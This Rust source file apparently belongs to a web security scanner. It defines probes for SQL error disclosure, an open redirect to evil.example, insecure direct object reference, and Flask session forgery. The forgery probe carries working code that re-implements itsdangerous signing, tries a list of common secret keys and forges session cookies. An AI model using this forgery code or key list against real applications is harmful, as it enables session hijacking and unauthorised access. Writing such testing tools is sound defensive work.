//! Attacks that no layer claims yet. They are made and shown all the same: a table of what is stopped is worth nothing without
//! what is not.

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::own_login;
use crate::app::fill;
use crate::browser::{From, How};
use crate::context::{Context, described};
use crate::cookies::Jar;
use crate::encode;
use crate::probe::{Effect, Failed, Probe, Twin, Verdict};

pub(super) const PROBES: &[Probe] = &[
    Probe {
        id: "unguarded/sql-error-in-page",
        title: "read the database's error in a page that succeeds",
        effect: Effect::Active,
        cwe: 209,
        asvs: "V16.5.1",
        attack: sql_error_in_page,
        twin: own_login,
    },
    Probe {
        id: "unguarded/open-redirect",
        title: "have the app send its visitors elsewhere after login",
        effect: Effect::Active,
        cwe: 601,
        asvs: "V3.7.2",
        attack: open_redirect,
        twin: own_login,
    },
    Probe {
        id: "unguarded/foreign-object",
        title: "read what belongs to somebody else by its number",
        effect: Effect::Active,
        cwe: 639,
        asvs: "V8.2.2",
        attack: foreign_object,
        twin: own_object,
    },
    Probe {
        id: "unguarded/session-forgery",
        title: "make a session with a guessed key",
        effect: Effect::Active,
        cwe: 321,
        asvs: "V7.2.3",
        attack: session_forgery,
        twin: own_login,
    },
];

/// An app that puts the error into an ordinary page: no status tells the gateway that anything failed.
fn sql_error_in_page(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let form = context.login_form("O'Brien", "x")?;
    let answer = context.browse(form, &Jar::default(), &From::Own, How::Navigate)?;
    Ok(match super::disclosure::inside(&answer) {
        Some(sign) => Verdict::succeeded(format!("a login as O'Brien shows \"{sign}\" with status {}", answer.status)),
        None => Verdict::refused(&answer, "the answer says nothing of a database"),
    })
}

fn open_redirect(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let (redirect, attacker) = (described(&context.app.redirect, "redirect")?, context.attacker()?);
    let elsewhere = format!("https://evil.example/{}", encode::mark());
    let mut form = context.login_form(&attacker.name, &attacker.password)?;
    form.target = fill(&redirect.path, "url", &elsewhere);
    let answer = context.browse(form, &Jar::default(), &From::Own, How::Navigate)?;
    Ok(if answer.location() == Some(elsewhere.as_str()) {
        Verdict::succeeded(format!("after login the app sends its visitor to {elsewhere}"))
    } else {
        Verdict::refused(&answer, "no redirect elsewhere")
    })
}

fn foreign_object(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let object = described(&context.app.object, "object")?;
    let attacker = context.attacker()?;
    let jar = context.session(&attacker)?;
    let page = context.visit(&object.path, &jar)?;
    Ok(if page.contains(&object.contains) {
        Verdict::succeeded(format!("{} reads {} at {}", attacker.name, object.contains, object.path))
    } else {
        Verdict::refused(&page, "what belongs to somebody else is not shown")
    })
}

/// The owner reads the same.
fn own_object(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let object = described(&context.app.object, "object")?;
    let jar = context.victim_session()?;
    let page = context.visit(&object.path, &jar)?;
    Ok(Twin::of(page.contains(&object.contains), &page, "one's own page"))
}

/// Keys from tutorials and answers on the web, in the order in which they are met.
const KEYS: [&str; 16] = [
    "secret",
    "secret_key",
    "secret-key",
    "secretkey",
    "dev",
    "development",
    "changeme",
    "change-me",
    "mysecret",
    "mysecretkey",
    "supersecret",
    "super secret key",
    "supersecretkey",
    "key",
    "flask",
    "password",
];

/// Signs a Flask session as itsdangerous does: HMAC-SHA1 with a key derived from the app's and the salt `cookie-session`.
fn flask_signature(key: &str, text: &str) -> String {
    let sign = |key: &[u8], text: &[u8]| hmac::sign(&hmac::Key::new(hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, key), text);
    let derived = sign(key.as_bytes(), b"cookie-session");
    URL_SAFE_NO_PAD.encode(sign(derived.as_ref(), text.as_bytes()))
}

fn session_forgery(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let flask = described(&context.app.flask, "flask")?;
    let attacker = context.attacker()?;
    let own = context.session(&attacker)?;
    let signed = own.iter().filter_map(|cookie| {
        cookie.value.rsplit_once('.').map(|(text, signature)| (cookie.name.clone(), text.to_owned(), signature.to_owned()))
    });
    for (name, text, signature) in signed {
        let Some(key) = KEYS.into_iter().find(|key| flask_signature(key, &text) == signature) else {
            continue;
        };
        // The time stamp of one's own session is a good one.
        let stamp = text.rsplit('.').next().unwrap_or_default();
        let forged = format!("{}.{stamp}", URL_SAFE_NO_PAD.encode(&flask.payload));
        let mut jar = Jar::default();
        jar.keep([format!("{name}={forged}.{}; Secure; Path=/", flask_signature(key, &forged)).as_str()].into_iter());
        if context.proves(&jar, &flask.secret)? {
            return Ok(Verdict::succeeded(format!("the key is {key:?}; a session made with it shows {}", flask.secret)));
        }
    }
    Ok(Verdict::stopped("no session signed with a well-known key was taken"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signs_as_flask_does() {
        // Made with itsdangerous 2.2.0: TimestampSigner("secret", salt="cookie-session", key_derivation="hmac"), SHA-1.
        assert_eq!(flask_signature("secret", "eyJ1c2VyX2lkIjoxfQ.aSFmgA"), "1d2XACH4s-j5OtQctl3rVwUpLoA");
    }
}
